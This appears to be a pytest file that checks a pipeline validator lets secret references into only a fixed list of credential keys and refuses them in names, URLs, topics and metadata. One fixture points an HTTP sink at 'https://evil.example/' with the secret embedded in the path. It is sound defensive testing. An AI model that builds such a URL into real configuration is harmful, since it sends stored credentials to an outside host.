"""A secret is not read by echo: every key of every component is tried, and whatever components and keys are called."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from pipelines.domain.definitions.checks.validate import validate_data
from pipelines.domain.definitions.document.references import substituted
from pipelines.domain.definitions.document.secret_fields import secret_keys, takes_secret
from pipelines.domain.definitions.parts import registry
from pipelines.domain.definitions.parts.client_options import CONSUMER, PRODUCER
from pipelines.domain.definitions.parts.component import ComponentSpec
from tests.attacks.test_exposure import definition

BAIT = "${secret:master}"
CAPABLE = {
    "channel/kafka": ["options"],
    "dead_letter/kafka": ["options"],
    "interceptor/python": ["config"],
    "sink/http": ["headers", "password", "tls.private_key", "token"],
    "sink/kafka": ["options"],
    "sink/opensearch": ["password", "tls.private_key", "token"],
    "sink/postgres": ["dsn"],
    "source/http": ["token"],
    "source/kafka": ["options"],
}
OPTIONS = {
    "sasl.password",
    "sasl.username",
    "ssl.key.password",
    "ssl.keystore.certificate.chain",
    "ssl.keystore.key",
    "ssl.truststore.certificates",
}


def refused(data: dict[str, Any]) -> set[str]:
    return {found.path for found in validate_data(data).findings if found.code == "secret_not_allowed"}


def test_the_keys_that_take_secrets_are_these_and_no_others() -> None:
    found = {f"{spec.kind}/{spec.type_name()}": secret_keys(spec) for spec in registry.all()}
    assert {component: keys for component, keys in found.items() if keys} == CAPABLE


def placed(spec: type[ComponentSpec], keys: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    made = {"type": spec.type_name(), **keys}
    if spec.kind == "interceptor":
        return "sources.in.interceptors[0]", definition(source={"type": "sequence", "interceptors": [made]})
    if spec.kind == "selector":
        return "sources.in.selector", definition(source={"type": "sequence", "selector": made})
    if spec.kind == "processor":
        data = definition()
        return "sink_groups.g.processor", data | {"sink_groups": {"g": {"sinks": ["out"], "processor": made}}}
    if spec.kind == "dead_letter":
        return "errors.dead_letter", definition(letters=made)
    path = {"source": "sources.in", "channel": "channels.c", "sink": "sinks.out"}[spec.kind]
    return path, definition(**{spec.kind: made})


def every_key() -> Iterator[Any]:
    for spec in registry.all():
        for name, info in spec.model_fields.items():
            if name != "type":
                yield pytest.param(spec, info.alias or name, id=f"{spec.kind}/{spec.type_name()}.{name}")


@pytest.mark.parametrize(("spec", "key"), list(every_key()))
def test_no_other_key_of_any_component_takes_one(spec: type[ComponentSpec], key: str) -> None:
    """As text, in a list, and below keys that are called like those that take one."""
    known = CAPABLE.get(f"{spec.kind}/{spec.type_name()}", [])
    for name in ("options", "token", "password", "dsn", "private_key", "headers", "a"):
        for bait in (BAIT, [BAIT], {name: BAIT}, {name: {name: BAIT}}, [{name: BAIT}]):
            path, data = placed(spec, {key: bait})
            resolved = substituted(data, {BAIT: "value"}) != data
            if resolved and not any(each.startswith(path) for each in refused(data)):
                assert key in {each.partition(".")[0] for each in known}, bait


@pytest.mark.parametrize("name", ["options", "token", "password", "dsn", "private_key", "headers", "config", "tls"])
def test_names_of_components_open_nothing(name: str) -> None:
    """On the old code a source that was called `options` sent the value of any secret as records."""
    data = definition()
    data["sources"] = {name: {"type": "sequence", "body": BAIT, "interceptors": [{"type": "static", "value": BAIT}]}}
    data["sinks"] = {name: {"type": "http", "channel": "c", "url": f"https://evil.example/{BAIT}"}}
    data["channels"] = {"c": {"type": "direct"}, name: {"type": "kafka", "topic": BAIT}}
    assert refused(data) == {
        f"sources.{name}.body",
        f"sources.{name}.interceptors[0].value",
        f"sinks.{name}.url",
        f"channels.{name}.topic",
    }


@pytest.mark.parametrize("option", sorted(CONSUMER | PRODUCER))
def test_of_client_options_only_those_of_the_log_in_take_one(option: str) -> None:
    """`client.id` is shown by every tool that lists the members of a group."""
    source = {"type": "kafka", "bootstrap_servers": "b:1", "topics": ["t"], "group_id": "g", "options": {option: BAIT}}
    assert bool(refused(definition(source=source))) == (option not in OPTIONS)


def test_texts_about_the_pipeline_take_none() -> None:
    data = definition() | {"placement": {"host": BAIT, "launcher": {"type": "spark", "options": {"x": BAIT}}}}
    data["delivery"] = {"token": BAIT}
    data["lifecycle"] = {"options": {"password": BAIT}}
    assert refused(data) == {
        "placement.host",
        "placement.launcher.options.x",
        "delivery.token",
        "lifecycle.options.password",
    }


@pytest.mark.parametrize(
    "data", [None, [], {}, {"sources": []}, {"sources": {"a": []}}, {"errors": {"dead_letter": 1}}]
)
def test_whatever_the_shape_nothing_fails_and_nothing_is_taken(data: Any) -> None:
    for path in [(), ("sources",), ("sources", "a", "token"), ("errors", "dead_letter", "options", "x"), (0, 1)]:
        assert not takes_secret(path, data)
